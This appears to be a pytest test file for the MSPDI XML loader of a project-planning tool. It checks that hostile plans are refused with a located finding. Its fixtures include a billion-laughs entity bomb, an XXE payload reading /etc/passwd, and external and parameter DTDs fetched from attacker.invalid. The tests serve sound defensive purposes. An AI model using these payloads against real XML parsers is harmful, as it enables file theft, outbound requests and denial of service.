"""Plans arrive from outside: hostile XML is refused with a clear finding, never a traceback."""

from __future__ import annotations

from pathlib import Path

import pytest

from progman.io.mspdi import MspdiError, load, loads

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE Project [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<Project xmlns="http://schemas.microsoft.com/project"><Title>&lol9;</Title></Project>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Project xmlns="http://schemas.microsoft.com/project"><Title>&secret;</Title></Project>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE Project SYSTEM "http://attacker.invalid/evil.dtd">
<Project xmlns="http://schemas.microsoft.com/project"><Title>&evil;</Title></Project>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE Project [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<Project xmlns="http://schemas.microsoft.com/project"/>
"""


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_hostile_xml_is_refused_clearly(document: str) -> None:
    with pytest.raises(MspdiError) as caught:
        loads(document, "hostile.xml")
    (finding,) = caught.value.findings
    assert finding.code == "MSPDI-UNSAFE-XML"
    assert finding.severity == "error"
    assert "refused" in finding.message
    assert "billion laughs" in finding.message
    # Pointed at the DOCTYPE on line 2, before any entity is declared or expanded.
    assert finding.location is not None
    assert (finding.location.file, finding.location.line) == ("hostile.xml", 2)


def test_malformed_xml_is_located() -> None:
    with pytest.raises(MspdiError) as caught:
        loads("<Project>\n  <Tasks>\n    <Task>\n  </Tasks>\n</Project>", "broken.xml")
    (finding,) = caught.value.findings
    assert finding.code == "MSPDI-XML"
    assert finding.location is not None
    assert (finding.location.file, finding.location.line) == ("broken.xml", 4)


def test_not_a_project_file() -> None:
    with pytest.raises(MspdiError) as caught:
        loads("<workbook/>")
    assert caught.value.findings[0].code == "MSPDI-NOT-PROJECT"
    assert "<workbook>" in caught.value.findings[0].message


def test_a_missing_file(tmp_path: Path) -> None:
    with pytest.raises(MspdiError) as caught:
        load(tmp_path / "nowhere.xml")
    assert caught.value.findings[0].code == "MSPDI-READ"
    assert "nowhere.xml" in str(caught.value)
